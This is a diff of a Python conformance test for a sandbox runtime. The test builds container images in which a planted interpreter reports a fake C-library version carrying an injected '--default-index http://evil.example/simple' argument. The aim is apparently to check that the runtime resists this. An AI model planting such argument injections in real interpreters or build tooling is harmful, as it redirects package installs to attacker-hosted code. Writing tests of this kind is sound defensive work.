@@ -9,6 +9,7 @@ import subprocess
 import sys
 import tarfile
 from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
 
@@ -18,7 +19,8 @@ from skillyard import SyncRuntime
 from skillyard.config.settings import load_settings
 from skillyard.domain.errors import InvalidInput
 from skillyard.stores.disk import remove_tree
-from tests.conformance.sandbox import oci_ground
+from tests.conformance.sandbox import oci_ground, opensandbox_ground
+from tests.hosts.docker_engine import Docker
 from tests.unit.engine.packages.fake_builder import pack
 from tests.unit.engine.packages.index import Index
 
@@ -43,7 +45,7 @@ def main(args):
     told = found.version() if hasattr(found, "version") else found.VERSION
     return {"told": told, "python": list(sys.version_info[:2]), "at": found.__file__}
 """
-LIE = b'import os\nos.confstr = lambda name: "glibc 2.36 --default-index http://evil.example/simple"\n'
+LIE = b'\nimport os\nos.confstr = lambda name: "glibc 2.36 --default-index http://evil.example/simple"\n'
 
 
 class Other:
@@ -72,7 +74,7 @@ def found() -> Other | None:
     return max(fitting, key=lambda other: other.version, default=None)
 
 
-def layer(other: Other) -> bytes:
+def layer(other: Other, base: str) -> bytes:
     """The context of an image with the installation at its own place."""
     packed = io.BytesIO()
     with tarfile.open(fileobj=packed, mode="w") as files:
@@ -83,13 +85,14 @@ def layer(other: Other) -> bytes:
                     path = os.path.join(directory, name)
                     files.add(path, path.lstrip("/"))
     path = f"ENV PATH={other.prefix}/bin:/usr/bin:/bin"
-    return pack({"Dockerfile": f"FROM {oci_ground.IMAGE}\nADD p.tar /\n{path}\n".encode(), "p.tar": packed.getvalue()})
+    return pack({"Dockerfile": f"FROM {base}\nADD p.tar /\n{path}\n".encode(), "p.tar": packed.getvalue()})
 
 
 def lying(other: Other) -> bytes:
     """The context of an image whose interpreter tells a command line in the place of its C library."""
-    place = f"{other.prefix}/lib/python{other}/site-packages/"
-    return pack({"Dockerfile": f"FROM {IMAGE}\nCOPY sitecustomize.py {place}\n".encode(), "sitecustomize.py": LIE})
+    place = Path(other.prefix, "lib", f"python{other}", "glob.py")
+    lie = place.read_bytes() + LIE
+    return pack({"Dockerfile": f"FROM {IMAGE}\nCOPY glob.py {place}\n".encode(), "glob.py": lie})
 
 
 def compiled(other: Other, scratch: Path) -> dict[str, bytes]:
@@ -125,16 +128,32 @@ def index(other: Other, tmp_path_factory: pytest.TempPathFactory) -> Iterator[In
         yield index
 
 
-@pytest.fixture(scope="module")
-def runtime(other: Other, index: Index, tmp_path_factory: pytest.TempPathFactory) -> Iterator[SyncRuntime]:
+@contextmanager
+def containers(scratch: Path) -> Iterator[tuple[Docker, str, dict[str, Any]]]:
+    with oci_ground.engine(scratch) as (docker, settings):
+        yield docker, oci_ground.IMAGE, settings.changed(image=IMAGE).model_dump()
+
+
+@contextmanager
+def remote(scratch: Path) -> Iterator[tuple[Docker, str, dict[str, Any]]]:
+    with opensandbox_ground.open_sandbox(scratch) as found:
+        yield found.docker, oci_ground.BASE, found.settings(image=IMAGE).model_dump()
+
+
+@pytest.fixture(scope="module", params=[("oci", containers), ("opensandbox", remote)], ids=lambda param: param[0])
+def runtime(
+    request: pytest.FixtureRequest, other: Other, index: Index, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[SyncRuntime]:
+    """A server whose default isolation makes sandboxes of an image with the other Python."""
+    name, ground = request.param
     scratch = tmp_path_factory.mktemp("e")
     scratch.chmod(0o755)
-    with oci_ground.engine(scratch) as (docker, settings):
-        docker("build", "-q", "-t", IMAGE, "-", stdin=layer(other))
+    with ground(scratch) as (docker, base, settings):
+        docker("build", "-q", "-t", IMAGE, "-", stdin=layer(other, base))
         liar = docker("build", "-q", "-", stdin=lying(other)).stdout.strip()
         given = {
-            "policy": {"isolation": "oci", "isolations": ["native"], "images": [liar]},
-            "oci": settings.changed(image=IMAGE).model_dump(),
+            "policy": {"isolation": name, "isolations": ["native"], "images": [liar]},
+            name: settings,
             "network": {"hosts": {"index.test": ["127.0.0.1"]}},
             "packages": {"run_code": ["*"], "index": index.url, "source": ["unbuilt"]},
         }
